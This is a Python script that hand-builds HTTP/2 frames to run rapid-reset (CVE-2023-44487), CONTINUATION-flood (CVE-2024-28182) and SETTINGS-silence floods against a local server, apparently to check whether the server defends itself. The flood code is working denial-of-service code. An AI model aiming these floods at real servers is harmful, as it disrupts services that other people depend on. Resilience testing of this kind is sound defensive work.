#!/usr/bin/env python3
"""HTTP/2 floods over plain TCP with prior knowledge, written frame by frame.

usage: h2_flood.py PORT rapid-reset|continuation|settings-silence
  rapid-reset:      opens stream after stream and resets each at once (CVE-2023-44487);
  continuation:     one HEADERS without END_HEADERS, then CONTINUATION frames without end
                    (CVE-2024-28182);
  settings-silence: sends the preface but never acknowledges the server's SETTINGS.
Prints "goaway ERROR_CODE" when the server sent GOAWAY, "closed" when it closed without one,
or "open" when it put up with it all; then the seconds it took.
"""
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0, 1, 3, 4, 7, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """A header field without indexing, its name from the static table."""
    value = value.encode()
    return bytes([index]) + bytes([len(value)]) + value


GET_HEALTH = b"\x82\x86" + literal(4, "/health") + literal(1, "127.0.0.1")


def read_frames(sock, deadline):
    """Yields (kind, flags, stream, payload) until the connection closes or the deadline."""
    buf = b""
    while time.time() < deadline:
        sock.settimeout(max(0.05, deadline - time.time()))
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            return
        except OSError:
            yield None
            return
        if not chunk:
            yield None
            return
        buf += chunk
        while len(buf) >= 9:
            length = struct.unpack(">I", b"\0" + buf[:3])[0]
            if len(buf) < 9 + length:
                break
            kind, flags = buf[3], buf[4]
            stream = struct.unpack(">I", buf[5:9])[0] & 0x7FFFFFFF
            yield kind, flags, stream, buf[9:9 + length]
            buf = buf[9 + length:]


def outcome(sock, seconds):
    for f in read_frames(sock, time.time() + seconds):
        if f is None:
            return "closed"
        if f[0] == GOAWAY:
            return "goaway %d" % struct.unpack(">I", f[3][4:8])[0]
    return "open"


def main():
    port, mode = int(sys.argv[1]), sys.argv[2]
    start = time.time()
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    result = None
    try:
        if mode == "settings-silence":
            result = outcome(sock, 20)
        else:
            sock.sendall(frame(SETTINGS, ACK, 0))
            if mode == "rapid-reset":
                batch = b""
                for i in range(20000):
                    sid = 1 + 2 * i
                    batch += frame(HEADERS, END_STREAM | END_HEADERS, sid, GET_HEALTH)
                    batch += frame(RST_STREAM, 0, sid, struct.pack(">I", 8))
                    if len(batch) > 32768:
                        sock.sendall(batch)
                        batch = b""
                sock.sendall(batch)
            elif mode == "continuation":
                sock.sendall(frame(HEADERS, END_STREAM, 1, GET_HEALTH))
                filler = literal(0x0F, "") if False else b"\x00\x01x\x08yyyyyyyy"
                for _ in range(100000):
                    sock.sendall(frame(CONTINUATION, 0, 1, filler * 100))
            result = outcome(sock, 5)
    except (BrokenPipeError, ConnectionResetError):
        result = outcome(sock, 2)
        if result == "open":
            result = "closed"
    print(result)
    print("%.1f" % (time.time() - start))


if __name__ == "__main__":
    main()
